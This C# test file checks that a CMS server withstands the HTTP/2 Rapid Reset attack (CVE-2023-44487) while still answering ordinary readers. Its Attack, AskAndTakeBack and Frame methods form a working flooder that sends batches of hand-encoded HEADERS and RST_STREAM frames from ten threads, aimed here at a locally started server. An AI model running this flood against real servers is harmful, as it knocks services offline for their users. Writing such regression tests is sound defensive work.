using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;
using Hedensted.Testing;

namespace Hedensted.Cms.Tests.Operations;

/// <summary>HTTP/2 clients that ask and take it back at once, again and again, so that the server works for nobody (CVE-2023-44487).</summary>
public class RapidResetTests
{
    private const int Attackers = 10;
    private const int Batch = 1_000;
    private const int FrameHead = 9;
    private const int StreamAt = 5;
    private const int ResetFrame = FrameHead + 4;

    // RFC 9113, §6 and §7.
    private const byte Headers = 0x1;
    private const byte Reset = 0x3;
    private const byte Settings = 0x4;
    private const byte EndStreamAndHeaders = 0x5;
    private const uint Cancel = 0x8;

    [Test]
    public async Task Who_asks_and_takes_it_back_is_hung_up_on_and_others_are_answered()
    {
        var certificate = OwnCertificate.Make();
        await using var cms = await CmsProcess.StartAsync(settings:
        [
            ("Kestrel:Endpoints:Tls:Url", "https://127.0.0.1:0"),
            ("Kestrel:Endpoints:Tls:Certificate:Path", certificate.Certificate),
            ("Kestrel:Endpoints:Tls:Certificate:KeyPath", certificate.Key),
            ("Hedensted:GraphQL:Budget:UnitsPerSecond", "0"), // all have one address
        ]);
        await using var readers = Readers.Begin(() => Reader(cms.Address, certificate), 2, "/graphql?query=%7B__typename%7D", "/", "/arrangementer");
        await readers.MoreAsync(600);
        using var server = Process.GetProcessById(cms.Id);
        var (before, most, alone, watch) = (server.WorkingSet64, 0L, readers.Answered, Stopwatch.StartNew());

        using var stopping = new CancellationTokenSource();
        var attack = Task.WhenAll(Enumerable.Range(0, Attackers).Select(_ => Task.Factory.StartNew(
            () => Attack(cms.Address, certificate, stopping.Token), CancellationToken.None, TaskCreationOptions.LongRunning, TaskScheduler.Default)));
        for (var round = 0; round < 5; round++)
        {
            await readers.MoreAsync(40);
            server.Refresh();
            most = Math.Max(most, server.WorkingSet64);
        }

        await stopping.CancelAsync();
        var (times, beside) = ((await attack).Sum(), readers.Answered - alone);
        await readers.DisposeAsync();
        TestContext.Out.WriteLine(
            $"hung up on {times} times in {watch.Elapsed.TotalSeconds:0} s; {beside / watch.Elapsed.TotalSeconds:0} answers a second beside it; {(most - before) / 1e6:0} MB");
        Assert.Multiple(() =>
        {
            Assert.That(times, Is.GreaterThan(2 * Attackers), "they are hung up on, however often they come");
            Assert.That(most - before, Is.LessThan(300_000_000));
            Assert.That(readers.Failures, Is.Empty);
            Assert.That(cms.Output, Does.Not.Contain("fail:"), "what somebody takes back is no fault of ours");
        });
    }

    private static HttpClient Reader(Uri address, OwnCertificate certificate)
    {
        var handler = new SocketsHttpHandler { SslOptions = { RemoteCertificateValidationCallback = (_, shown, _, _) => certificate.IsShown(shown) } };
        return new HttpClient(handler) { BaseAddress = address, DefaultRequestVersion = HttpVersion.Version20, DefaultVersionPolicy = HttpVersionPolicy.RequestVersionExact };
    }

    /// <summary>One attacker after the other from the same place, each until it is hung up on: how often that was.</summary>
    private static int Attack(Uri address, OwnCertificate certificate, CancellationToken stopping)
    {
        var times = 0;
        var batch = AskAndTakeBack(address.Authority);
        for (; !stopping.IsCancellationRequested; times++)
        {
            using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
            socket.Connect(address.Host, address.Port);
            using var line = new SslStream(new NetworkStream(socket), leaveInnerStreamOpen: false, (_, shown, _, _) => certificate.IsShown(shown));
            line.AuthenticateAsClient(new SslClientAuthenticationOptions { TargetHost = "localhost", ApplicationProtocols = [SslApplicationProtocol.Http2] });
            line.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
            line.Write(Frame(Settings, 0, []));
            var reading = line.CopyToAsync(Stream.Null, CancellationToken.None);
            try
            {
                for (var stream = 1; !stopping.IsCancellationRequested; stream += 2 * Batch)
                {
                    Number(batch, stream);
                    line.Write(batch);
                }
            }
            catch (IOException)
            {
                // hung up on
            }

            socket.Close();
            reading.ContinueWith(ended => ended.Exception, TaskScheduler.Default).Wait(CancellationToken.None);
        }

        return times;
    }

    private static byte[] AskAndTakeBack(string authority)
    {
        // RFC 7541: GET, https and / are in the static table (2, 7, 4); :authority (1) is spelt out.
        var question = Frame(Headers, EndStreamAndHeaders, [0x82, 0x87, 0x84, 0x01, (byte)authority.Length, .. Encoding.ASCII.GetBytes(authority)]);
        var cancel = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(cancel, Cancel);
        return [.. Enumerable.Repeat((byte[])[.. question, .. Frame(Reset, 0, cancel)], Batch).SelectMany(pair => pair)];
    }

    // Each question and its taking back stand on a stream of their own.
    private static void Number(Span<byte> batch, int stream)
    {
        for (var one = batch.Length / Batch; !batch.IsEmpty; batch = batch[one..], stream += 2)
        {
            BinaryPrimitives.WriteInt32BigEndian(batch[StreamAt..], stream);
            BinaryPrimitives.WriteInt32BigEndian(batch[(one - ResetFrame + StreamAt)..], stream);
        }
    }

    private static byte[] Frame(byte type, byte flags, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[FrameHead + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        payload.CopyTo(frame.AsSpan(FrameHead));
        return frame;
    }
}
